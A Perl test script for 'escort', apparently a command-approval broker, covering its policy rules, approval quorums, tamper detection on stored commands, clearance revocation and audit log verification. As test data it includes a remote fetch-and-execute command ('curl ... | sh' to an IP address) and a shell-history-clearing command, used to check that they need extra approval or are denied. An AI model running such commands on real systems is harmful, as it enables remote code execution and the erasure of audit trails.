#!/usr/bin/perl
# 41-scenario.t — the example organization of issue 4 end to end through the CLI, with
# examples/policy.yaml: location denial, one escort approval and a real local run, two
# approvals incl. a reviewer, auto-approval, category denial, a clearance revoked by a
# policy reload (approval refused, an approved request can no longer run), stored bytes
# tampered with behind escort's back (run refused), and an audit log that verifies and
# holds every step.
use strict;
use warnings;
use FindBin;
use lib "$FindBin::Bin/../lib";
use EscortTest;
use EscortPg qw(store_pg store_sql store_sql_try);
use File::Temp qw(tempdir);
use JSON::PP;
use Digest::SHA qw(sha256);

my $E = $ENV{ESCORT} // 'build/escort';
my $BUILD = $ENV{BUILD} // 'build';
my $POLICY = 'examples/policy.yaml';

my $t = tempdir(CLEANUP => 1);
my $dir = "$t/data";
$ENV{ESCORT_DATA} = $dir;
delete $ENV{ESCORT_DATA_DIR};
delete $ENV{ESCORT_TOKEN};

# run(TOKEN, ARGS...): escort as the identity of TOKEN (undef: none)
sub run { my ($tok, @args) = @_; return escort({ token => $tok }, @args) }
# the store's SQL: SQLite's DIR/escort.db, or PostgreSQL when $ESCORT_STORE names it
my $PG = store_pg();
sub sql { return store_sql($dir, $_[0]) }
sub hexof { return $PG ? "upper(encode($_[0], 'hex'))" : "hex($_[0])" }
sub blob { return $PG ? "convert_to('$_[0]', 'UTF8')" : "CAST('$_[0]' AS BLOB)" }

# setup: the data directory owner loads the policy and issues tokens
my ($s, $o, $e) = run(undef, 'init', '--data', $dir);
ok($s == 0 && ($PG ? !-e "$dir/escort.db" && sql('SELECT count(*) FROM schema_version') > 0 : -f "$dir/escort.db"),
   'init creates the data directory and the store') or print "# $e\n";
ok(((stat $dir)[2] & 07777) == 0700, 'data directory is 0700');
($s, $o, $e) = run(undef, 'policy', 'load', $POLICY);
ok($s == 0 && $o =~ /policy version 1 in force/, 'the owner loads the example policy') or print "# $s $o $e\n";
ok(-f "$dir/policy/current.yaml", 'policy stored as current.yaml');
my %tok;
for my $u (qw(op-cn op-in esc-1 esc-2 rev-1 aud-1 adm-1)) {
	($s, $o, $e) = run(undef, 'user', 'token', $u);
	chomp $o;
	$tok{$u} = $o;
	die "token for $u: $e" unless $s == 0 && $o =~ /^esc_[A-Za-z0-9_-]{43}$/;
}
ok(1, 'tokens issued for all seven identities');
ok(sql("SELECT count(*) FROM tokens WHERE length(hash) = 32") == 7, 'only token hashes are stored');
my $hashes = sql('SELECT ' . hexof('hash') . ' FROM tokens');
ok(($hashes =~ tr/\n//) == 6 && index($hashes, $tok{'esc-1'}) < 0, 'no token in clear');
($s, $o, $e) = run(undef, 'user', 'token', 'nobody');
ok($s == 4 && $e =~ /nobody/, 'token for an unknown identity: exit 4');
($s, $o, $e) = run('esc_notavalidtoken', 'request', 'list');
ok($s == 3 && $e =~ /not valid/, 'a wrong token is refused (exit 3)');

sub create {
	my ($who, $target, @cmd) = @_;
	my ($st, $out, $err) = run($tok{$who}, 'request', 'create', '--json', '--target', $target,
	    '--ticket', 'CHG-1', '--justification', 'scenario', '--', @cmd);
	return ($st, js($out), $err);
}
sub act { my ($who, @a) = @_; return run($tok{$who}, 'request', @a) }
sub show { my ($who, $id) = @_; my ($st, $out) = act($who, 'show', '--json', $id); return js($out) }

# 1. op-cn on dod-web: refused by the location rule
my ($j, $id);
($s, $j, $e) = create('op-cn', 'dod-web', 'uptime');
ok($s == 3, '1. op-cn creating a request on dod-web is refused (exit 3)');
ok($e =~ /dod-deny-adversary-locations/ && $e =~ /\bCN\b/, '1. the reason names the location rule') or print "# $e\n";
ok($j && $j->{state} eq 'denied', '1. the attempt is recorded as denied');

# 2. op-in systemctl status nginx on dod-web: one escort approval, then it runs
($s, $j, $e) = create('op-in', 'dod-web', 'systemctl', 'status', 'nginx');
ok($s == 0 && $j->{state} eq 'pending' && $j->{decision}{quorum} == 1, '2. systemctl status nginx: pending, 1 approval needed') or print "# $s $e\n";
my $r2 = $j->{id};
($s, $o, $e) = act('op-in', 'approve', $r2);
ok($s == 3, '2. op-in approving their own request: exit 3') or print "# $s $e\n";
($s, $o, $e) = act('op-in', 'run', $r2);
ok($s == 5 && $e =~ /request $r2/ && $e =~ /pending/, '2. running before approval: exit 5 (wrong state)') or print "# $s $e\n";
($s, $o, $e) = act('esc-1', 'approve', '--json', $r2, '--comment', 'read-only status');
$j = js($o);
ok($s == 0 && $j->{state} eq 'approved', '2. esc-1 approving: approved') or print "# $s $e\n";
($s, $o, $e) = act('op-in', 'run', '--json', $r2);
$j = js($o);
ok($j && $j->{execution} && defined $j->{execution}{exit_code} && ($j->{state} eq 'succeeded' || $j->{state} eq 'failed'),
    "2. request run executed systemctl (state $j->{state}, exit $j->{execution}{exit_code})") or print "# $s $o $e\n";
ok(($s == 0) == ($j->{state} eq 'succeeded'), '2. exit status 0 only when the command succeeded');
($s, $o, $e) = act('op-in', 'run', $r2);
ok($s == 5 && $e =~ /at most once/, '2. a second run: exit 5, runs at most once');

# the same flow with a command whose output proves it really ran, exactly as approved
my $marker = "$t/ran-marker";
($s, $j, $e) = create('op-in', 'dod-web', "echo escorted-\$((6*7)) > $marker; printf 'out:%s\\n' \"\$PWD\" \"\$ESCORT_TOKEN\"");
my $r2b = $j->{id};
act('esc-2', 'approve', $r2b);
($s, $o, $e) = act('op-in', 'run', $r2b);
ok($s == 0, '2b. an approved echo runs (exit 0)') or print "# $e\n";
ok(-f $marker && `cat $marker` eq "escorted-42\n", '2b. bash really executed the approved bytes');
ok($o =~ /^out:\/\n/m && $o =~ /^out:\n/m, '2b. working directory / and a scrubbed environment (no ESCORT_TOKEN)') or print "# $o\n";
$j = show('aud-1', $r2b);
ok($j->{state} eq 'succeeded' && $j->{execution}{output_sha256} =~ /^[0-9a-f]{64}$/ && $j->{execution}{runner} eq 'op-in',
    '2b. show: succeeded, runner and output hash recorded');

# 3. curl | sh on dod-web: two approvals incl. a reviewer
($s, $j, $e) = create('op-in', 'dod-web', 'curl -s http://198.51.100.7/x | sh');
ok($s == 0 && $j->{state} eq 'pending' && $j->{decision}{quorum} == 2, '3. curl|sh: pending, 2 approvals needed') or print "# $s $e\n";
ok(($j->{needs} // '') =~ /reviewer/, '3. a reviewer is required') or print "# $j->{needs}\n";
my $r3 = $j->{id};
($s, $o, $e) = act('esc-1', 'approve', '--json', $r3);
ok($s == 0 && js($o)->{state} eq 'pending', '3. esc-1 approves: still pending');
($s, $o, $e) = act('esc-1', 'approve', $r3);
ok($s == 3 && $e =~ /already approved/, '3. esc-1 again: exit 3') or print "# $s $e\n";
($s, $o, $e) = act('esc-2', 'approve', '--json', $r3);
ok($s == 0 && js($o)->{state} eq 'pending', '3. esc-2 approves: still pending (no reviewer yet)') or print "# $s $e\n";
($s, $o, $e) = act('rev-1', 'approve', '--json', $r3);
ok($s == 0 && js($o)->{state} eq 'approved', '3. rev-1 approves: approved') or print "# $s $e\n";
ok(sql("SELECT count(*) FROM approvals WHERE request_id = $r3 AND kind = 'approve'") == 3, '3. three approvals stored');

# 4. ls -la /srv on com-web: auto-approved
($s, $j, $e) = create('op-in', 'com-web', 'ls', '-la', '/srv');
ok($s == 0 && $j->{state} eq 'approved' && @{$j->{approvals}} == 0, '4. ls -la /srv on com-web: approved without any approval') or print "# $s $e\n";
my $r4 = $j->{id};

# 5. history -c on dod-web: denied (log-tamper)
($s, $j, $e) = create('op-in', 'dod-web', 'history', '-c');
ok($s == 3 && $j->{state} eq 'denied', '5. history -c on dod-web: denied (exit 3)');
ok($e =~ /log/ && $e =~ /dod-deny-dangerous-categories/, '5. the reason is the log-tamper rule') or print "# $e\n";

# escorts deny, requesters cancel
($s, $j, $e) = create('op-in', 'dod-web', 'cat', '/etc/hostname');
my $rd = $j->{id};
($s, $o, $e) = act('esc-1', 'deny', $rd);
ok($s == 2 && $e =~ /comment/, 'deny without --comment: usage error');
($s, $o, $e) = act('esc-1', 'deny', $rd, '--comment', 'no ticket reference');
ok($s == 0 && $o =~ /denied/, 'esc-1 denies with a comment');
($s, $o, $e) = act('esc-2', 'approve', $rd);
ok($s == 5, 'approving a denied request: exit 5');
($s, $j, $e) = create('op-in', 'dod-web', 'cat', '/etc/os-release');
my $rc_ = $j->{id};
($s, $o, $e) = act('esc-1', 'cancel', $rc_);
ok($s == 3, 'an escort cannot cancel someone else\'s request (exit 3)');
($s, $o, $e) = act('op-in', 'cancel', $rc_);
ok($s == 0 && $o =~ /cancelled/, 'the requester cancels');
($s, $o, $e) = act('op-in', 'show', '999999');
ok($s == 4 && $e =~ /999999/, 'show of a missing request: exit 4, names the id');
($s, $o, $e) = act('op-cn', 'show', $r2);
ok($s == 3, 'an operator cannot see another operator\'s request');
($s, $o, $e) = act('aud-1', 'list', '--json');
$j = js($o);
ok($j && @$j >= 8, 'the auditor lists every request') or print "# $o\n";
($s, $o, $e) = act('op-cn', 'list', '--json');
$j = js($o);
ok($j && @$j == 1 && $j->[0]{requester} eq 'op-cn', 'an operator lists only their own');

# tampering with the stored bytes voids the approval
($s, $j, $e) = create('op-in', 'dod-web', "echo approved-bytes > $t/tamper-a");
my $rt = $j->{id};
act('esc-2', 'approve', $rt);
sql('UPDATE commands SET bytes = ' . blob("echo EVIL > $t/tamper-b") . " WHERE request_id = $rt");
($s, $o, $e) = act('op-in', 'run', $rt);
ok($s == 3 && $e =~ /request $rt/ && $e =~ /hash/, 'modified command bytes: run refused (exit 3)') or print "# $s $e\n";
ok(!-e "$t/tamper-a" && !-e "$t/tamper-b", 'and nothing ran');
# an attacker who also recomputes the request's own binding still fails the approvals
sub binding {
	my ($rid, $target, $pv, @cmds) = @_;
	my $f = sub { pack('Q>', length $_[0]) . $_[0] };
	my $m = $f->('escort approval v1') . pack('Q>', $rid) . $f->($target) . $f->($pv) . pack('Q>', scalar @cmds);
	$m .= $f->($_) for @cmds;
	return unpack('H*', sha256($m));
}
my $pv = sql("SELECT policy_version FROM requests WHERE id = $rt");
my $good = binding($rt, 'dod-web', $pv, "echo approved-bytes > $t/tamper-a");
ok(lc sql('SELECT ' . hexof('binding') . " FROM requests WHERE id = $rt") eq $good, 'the binding hash is SHA-256 over (id, target, policy version, bytes)');
my $evil = binding($rt, 'dod-web', $pv, "echo EVIL > $t/tamper-b");
sql('UPDATE requests SET binding = ' . ($PG ? "decode('$evil', 'hex')" : "x'$evil'") . " WHERE id = $rt");
($s, $o, $e) = act('op-in', 'run', $rt);
ok($s == 3 && $e =~ /approval by esc-2 does not match/, 'with a forged binding the approval hash still refuses') or print "# $s $e\n";
ok(!-e "$t/tamper-b", 'and the forged command did not run');
# an auto-approved request is bound too
sql('UPDATE commands SET bytes = ' . blob("ls -la /srv; touch $t/tamper-c") . " WHERE request_id = $r4");
($s, $o, $e) = act('op-in', 'run', $r4);
ok($s == 3 && !-e "$t/tamper-c", 'modified bytes of an auto-approved request: refused') or print "# $s $e\n";
# a changed target voids it as well
($s, $j, $e) = create('op-in', 'dod-web', "echo t > $t/tamper-d");
my $rtt = $j->{id};
act('esc-1', 'approve', $rtt);
sql("UPDATE requests SET target = 'com-web' WHERE id = $rtt");
($s, $o, $e) = act('op-in', 'run', $rtt);
ok($s == 3 && !-e "$t/tamper-d", 'a changed target: refused');
my $before = sql("SELECT count(*) FROM approvals");
my ($del) = store_sql_try($dir, 'DELETE FROM approvals');
ok($del != 0 && sql("SELECT count(*) FROM approvals") == $before && $before > 0, 'approvals cannot be deleted (append-only trigger)');

# 6. esc-1's clearance revoked by a policy reload
($s, $j, $e) = create('op-in', 'dod-web', "echo should-not-run > $t/revoked");
my $r6 = $j->{id};
($s, $o, $e) = act('esc-1', 'approve', '--json', $r6);
ok($s == 0 && js($o)->{state} eq 'approved', '6. esc-1 approves a request (not run yet)');
($s, $j, $e) = create('op-in', 'dod-web', 'uptime');
my $r6b = $j->{id};
open my $in, '<', $POLICY or die;
my $p = do { local $/; <$in> };
close $in;
ok($p =~ s/(name: esc-1\n(?:    .*\n)*?    clearance: )secret/${1}none/, '6. policy edited: esc-1 clearance none');
open my $out, '>', "$t/policy2.yaml" or die;
print $out $p;
close $out;
# a broken policy first: refused, the old one stays in force
open $out, '>', "$t/broken.yaml" or die;
print $out "identities: [\n";
close $out;
($s, $o, $e) = run(undef, 'policy', 'load', "$t/broken.yaml");
ok($s != 0 && $e =~ /broken\.yaml:\d+/ && $e =~ /previous policy stays/, 'a broken policy is refused with file:line, previous stays') or print "# $e\n";
($s, $o, $e) = act('esc-1', 'approve', '--json', $r6b);
ok($s == 0, '6. before the reload esc-1 still approves (old policy in force)');
# a new request for the post-reload check
($s, $j, $e) = create('op-in', 'dod-web', 'id');
my $r6c = $j->{id};
($s, $o, $e) = run(undef, 'policy', 'load', "$t/policy2.yaml");
ok($s == 0 && $o =~ /version 2/, '6. reloaded (version 2)') or print "# $e\n";
($s, $o, $e) = act('esc-1', 'approve', $r6c);
ok($s == 3 && $e =~ /esc-1/ && $e =~ /clearance/, '6. an approval by esc-1 is now refused (exit 3)') or print "# $s $e\n";
($s, $o, $e) = act('op-in', 'run', $r6);
ok($s == 3 && $e =~ /request $r6/ && $e =~ /esc-1/ && !-e "$t/revoked", '6. the request esc-1 approved earlier can no longer run') or print "# $s $e\n";
($s, $o, $e) = act('esc-2', 'approve', '--json', $r6c);
ok($s == 0 && js($o)->{state} eq 'approved', '6. esc-2 (still secret) approves instead');
($s, $o, $e) = act('esc-1', 'run', $r6c);
ok($s == 0, '6. an escort may run an approved request');
($s, $o, $e) = act('aud-1', 'run', $r3);
ok($s == 3, 'an auditor may not run requests');

# the audit log verifies and holds every step
($s, $o, $e) = run(undef, 'audit', 'verify');
ok($s == 0 && $o =~ /^ok/, 'escort audit verify passes') or print "# $o $e\n";
($s, $o, $e) = run(undef, 'audit', 'export');
my %types;
my @recs = map { js($_) } grep { length } split /\n/, $o;
$types{$_->{type}}++ for grep { $_ } @recs;
for my $ty (qw(policy.load token.issued request.created request.analyzed request.decided approval
               request.approved denial request.cancelled request.refused execution.start execution.end)) {
	ok(($types{$ty} // 0) > 0, "audit log holds $ty events") or print "# types: @{[sort keys %types]}\n";
}
my ($end) = grep { $_->{type} eq 'execution.end' && $_->{details}{request} == $r2b } @recs;
ok($end && $end->{details}{output_sha256} eq show('aud-1', $r2b)->{execution}{output_sha256}, 'execution.end carries the output hash');
my ($pl) = grep { $_->{type} eq 'policy.load' } @recs;
open $in, '<', $POLICY or die;
my $pbytes = do { local $/; <$in> };
close $in;
ok($pl && $pl->{details}{sha256} eq unpack('H*', sha256($pbytes)), 'policy.load carries the policy file hash');
if (!$PG) {
	ok(sql('PRAGMA integrity_check') eq 'ok', 'the store passes PRAGMA integrity_check');
	ok(sql('PRAGMA journal_mode') eq 'wal', 'the store is in WAL mode');
}
my $tables = $PG ? "SELECT count(*) FROM information_schema.tables WHERE table_schema = current_schema()"
                 : "SELECT count(*) FROM sqlite_master WHERE type = 'table'";
ok(sql('SELECT max(version) FROM schema_version') == sql('SELECT count(*) FROM schema_version') &&
   sql('SELECT max(version) FROM schema_version') >= 2 &&
   sql("$tables AND " . ($PG ? 'table_name' : 'name') . " = 'egress'") == 1,
   'schema versions 1.. applied in order, the broker\'s egress table among them');

done();
